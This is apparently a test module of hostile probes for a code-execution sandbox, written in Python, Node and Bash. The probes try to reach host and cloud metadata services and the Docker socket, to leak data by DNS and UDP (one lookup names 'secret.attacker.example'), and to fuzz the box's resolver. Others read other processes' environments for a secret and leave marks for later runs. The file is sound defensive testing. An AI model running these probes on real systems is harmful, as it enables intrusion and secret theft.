"""Attacks on what can be reached from a box: services, the host, other runs.

The first argument is the port of a service of the host's on 127.0.0.1 and on its other
addresses, the second the name of an abstract socket, the third a secret in the environment of
the Executor. The test asserts that nothing ever came to the two.
"""

from tests.sandbox.hostile.attack import BASH, NODE, PYTHON, RUNC, Attack

ATTACKS = (
    Attack(
        "services of the host and of the cloud",
        "reach the loopback, the bridge, or a metadata service",
        {
            PYTHON: """
import socket, sys
port = int(sys.argv[1])
for host in ("127.0.0.1", "::1", "localhost", "0.0.0.0", "172.17.0.1", "host.docker.internal",
             "169.254.169.254", "fd00:ec2::254", "metadata.google.internal"):
    for number in (port, 80, 2375, 5432):
        try:
            socket.create_connection((host, number), 0.3)
            print("BREACH", host, number)
        except OSError: pass
print("tried")
""",
            NODE: """
const net = require("net"), port = Number(process.argv[2]);
let left = 0;
for (const host of ["127.0.0.1", "::1", "172.17.0.1", "169.254.169.254"])
  for (const number of [port, 80, 2375]) {
    left += 1;
    const done = () => { socket.destroy(); if (--left === 0) console.log("tried"); };
    const socket = net.connect(number, host, () => { console.log("BREACH", host); done(); });
    socket.on("error", done).setTimeout(500, done);
  }
""",
            BASH: """
for host in 127.0.0.1 172.17.0.1 169.254.169.254; do
  for port in "$1" 80 2375; do
    (exec 3<>/dev/tcp/$host/$port) 2>/dev/null && echo BREACH $host
  done
done
echo tried
""",
        },
    ),
    Attack(
        "names and datagrams",
        "carry data out by DNS or UDP",
        {
            PYTHON: """
import socket
for name in ("example.com", "secret.attacker.example"):
    try: print("BREACH", socket.getaddrinfo(name, 80))
    except OSError: pass
for family, host in ((socket.AF_INET, "8.8.8.8"), (socket.AF_INET, "255.255.255.255"),
                     (socket.AF_INET6, "2001:4860:4860::8888"), (socket.AF_INET6, "ff02::1")):
    try:
        out = socket.socket(family, socket.SOCK_DGRAM)
        out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        out.sendto(b"secret", (host, 53))
        print("BREACH", host)
    except OSError: pass
others = [name for _, name in socket.if_nameindex() if name not in ("lo", "tunl0", "sit0", "ip6tnl0", "ip_vti0", "ip6_vti0", "ip6gre0", "gre0", "gretap0", "erspan0")]
if others: print("BREACH", others)
print("tried")
""",
            NODE: """
require("dns").lookup("example.com", (error, address) => {
  if (!error) console.log("BREACH", address);
  console.log("tried");
});
""",
            BASH: "getent hosts example.com && echo BREACH; echo tried",
        },
    ),
    Attack(
        "the name server of the box",
        "feed it anything, and more than it can answer",
        {
            PYTHON: """
import os, socket
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
head = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0"
for query in (b"", b"x", head, head + b"\\0", head + b"\\x09localhost", head + b"\\x09localhost\\0\\0",
              head + b"\\xc0\\x0c" * 200, bytes(1000), *map(os.urandom, range(2000))):
    try: out.sendto(query, ("127.0.0.1", 53))
    except OSError: pass
print("tried")
""",
            NODE: """
const out = require("dgram").createSocket("udp4"), { randomBytes } = require("crypto");
let left = 2000;
for (let size = 0; size < 2000; size++)
  out.send(randomBytes(size), 53, "127.0.0.1", () => {
    if (--left === 0) { console.log("tried"); out.close(); }
  });
""",
        },
    ),
    Attack(
        "sockets that see more than their own",
        "listen on the wire, or talk to the host's kernel",
        {
            PYTHON: """
import socket
def attempt(what, *arguments):
    try: made = socket.socket(*arguments)
    except OSError: return
    try:
        if what == "vsock": made.settimeout(0.3); made.connect((2, 1024))
        print("BREACH", what)
    except OSError: pass
attempt("raw", socket.AF_INET, socket.SOCK_RAW, 1)
attempt("raw 6", socket.AF_INET6, socket.SOCK_RAW, 58)
attempt("packet", socket.AF_PACKET, socket.SOCK_RAW, 0x300)
attempt("vsock", 40, socket.SOCK_STREAM)
attempt("bluetooth", 31, socket.SOCK_RAW, 1)
for family in (15, 21, 30, 38, 44): attempt(f"family {family}", family, socket.SOCK_RAW)
print("tried")
""",
        },
        allowed={RUNC: {"family 38": "the kernel's ciphers, which Docker's profile allows"}},
    ),
    Attack(
        "sockets without a file",
        "reach a program on the host",
        {
            PYTHON: """
import os, socket, sys
for name in ("\\0" + sys.argv[2], "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
    out = socket.socket(socket.AF_UNIX)
    try:
        out.connect(name)
        print("BREACH", name[1:])
    except OSError: pass
if os.path.exists("/proc/net/unix") and sys.argv[2] in open("/proc/net/unix").read():
    print("BREACH listed")
print("tried")
""",
        },
    ),
    Attack(
        "other processes",
        "find, signal or read what is not its own",
        {
            PYTHON: """
import os, sys
for name in os.listdir("/proc"):
    if not name.isdigit() or int(name) in (1, os.getpid()): continue
    print("BREACH process", name, open(f"/proc/{name}/cmdline").read())
for number in range(2, 4000):
    if number == os.getpid(): continue
    try: os.kill(number, 0); print("BREACH signal", number)
    except ProcessLookupError: pass
    except PermissionError: print("BREACH sees", number)
print("tried")
""",
        },
    ),
    Attack(
        "secrets of the Executor",
        "read them in an environment or a command line",
        {
            PYTHON: """
import glob, os, sys
secret = sys.argv[3].encode()[::-1]  # it is given backwards, so that it is not found in argv
for path in [*glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline"), "/proc/cmdline"]:
    try: content = open(path, "rb").read()
    except OSError: continue
    if secret in content: print("BREACH", path)
known = {"PATH", "LANG", "HOME", "HOSTNAME", "PWD", "PYTHONUNBUFFERED", "container"}
if set(os.environ) - known: print("BREACH", set(os.environ) - known)
print("tried")
""",
            NODE: """
const secret = [...process.argv[4]].reverse().join("");
if (Object.values(process.env).some((value) => value.includes(secret))) console.log("BREACH");
try {
  if (require("fs").readFileSync("/proc/1/environ").includes(secret)) console.log("BREACH 1");
} catch {}
console.log("tried");
""",
            BASH: """
secret=$(rev <<<"$3" 2>/dev/null || sed 's/./&\\n/g' <<<"$3" | tac | tr -d '\\n')
grep -aqF "$secret" /proc/[0-9]*/environ 2>/dev/null && echo BREACH
echo tried
""",
        },
    ),
    Attack(
        "marks for the next run",
        "leave something that another run finds",
        {
            PYTHON: """
import ctypes, os, socket
for folder in ("/tmp", "/root", "/dev/shm", "/sandbox", "/var/tmp", "/run", "/opt", "/usr/lib"):
    try: open(folder + "/mark", "w").write("mark")
    except OSError: pass
libc = ctypes.CDLL(None)
libc.shmget(4711, 4096, 0o1777), libc.semget(4711, 1, 0o1777), libc.msgget(4711, 0o1777)
socket.socket(socket.AF_UNIX).bind("\\0mark")
print("tried")
""",
            BASH: "for d in /tmp /root /dev/shm /var/tmp /run /opt /usr/lib; do echo mark >$d/mark; "
            "done 2>/dev/null; echo tried",
        },
    ),
)
